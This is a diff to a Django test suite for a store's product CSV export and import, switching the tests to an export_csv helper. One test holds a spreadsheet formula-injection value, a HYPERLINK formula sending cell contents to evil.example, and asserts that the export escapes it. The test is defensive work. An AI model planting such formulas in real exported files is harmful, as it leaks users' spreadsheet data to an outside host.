@@ -16,6 +16,7 @@ from catalog import imports
 from catalog.models import Product
 from catalog.models import ProductImport
 from catalog.models import ProductVariation
+from config.testing import export_csv
 from config.testing import finished_background_export
 from config.testing import store_url
 from stores.models import StoreRole
@@ -67,7 +68,7 @@ def sandbox_variations(sandbox):
 
 def test_export_is_the_filtered_sorted_list_with_variations_as_rows(client, synced, sandbox, viewer):
     client.force_login(viewer)
-    response = client.get(url("product_export", synced), {"type": "variable", "sort": "-price", "page": "3"})
+    response = export_csv(client, url("product_export", synced), {"type": "variable", "sort": "-price", "page": "3"})
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     rows = csv_rows(response)
     header = "id,sku,parent_sku,name,type,status,regular_price,sale_price,stock_status,stock_quantity,"
@@ -79,7 +80,7 @@ def test_export_is_the_filtered_sorted_list_with_variations_as_rows(client, sync
     assert {int(row["woo_id"]) for row in products} == variable
     assert all(row["type"] == "variable" for row in products)
     # The list's order: the filter bar's sort (price, highest first; empty prices last).
-    by_price = csv_rows(client.get(url("product_export", synced), {"type": "simple", "sort": "-price"}))
+    by_price = csv_rows(export_csv(client, url("product_export", synced), {"type": "simple", "sort": "-price"}))
     prices = [Decimal(row["regular_price"]) for row in by_price if row["regular_price"]]
     assert len(prices) > 10 and prices == sorted(prices, reverse=True)
     assert all(row["regular_price"] for row in by_price[: len(prices)])
@@ -109,7 +110,7 @@ def test_export_cells_are_safe_in_a_spreadsheet_and_hebrew_survives(client, sync
     other = Product.objects.filter(store=synced, type="simple").exclude(pk=product.pk).exclude(status="trash").first()
     Product.objects.filter(pk=other.pk).update(name="חולצה כחולה\tXL", stock_quantity=-3)
     client.force_login(viewer)
-    rows = {row["id"]: row for row in csv_rows(client.get(url("product_export", synced)))}
+    rows = {row["id"]: row for row in csv_rows(export_csv(client, url("product_export", synced)))}
     evil = rows[str(product.pk)]
     assert evil["name"] == "'" + '=HYPERLINK("https://evil.example/?x="&A1,"click")'
     assert evil["sku"] == "'@SUM(1+1)"
@@ -301,7 +302,7 @@ def test_a_huge_file_is_refused_before_it_is_read(client, synced, manager, monke
 
 def test_the_export_comes_back_through_the_import_and_only_managers_import(client, synced, manager, viewer, make_user):
     client.force_login(viewer)
-    exported = b"".join(client.get(url("product_export", synced), {"type": "simple"}).streaming_content)
+    exported = b"".join(export_csv(client, url("product_export", synced), {"type": "simple"}).streaming_content)
     assert client.get(url("product_import", synced)).status_code == 403
     assert upload(client, synced, exported).status_code == 403
     client.force_login(manager)
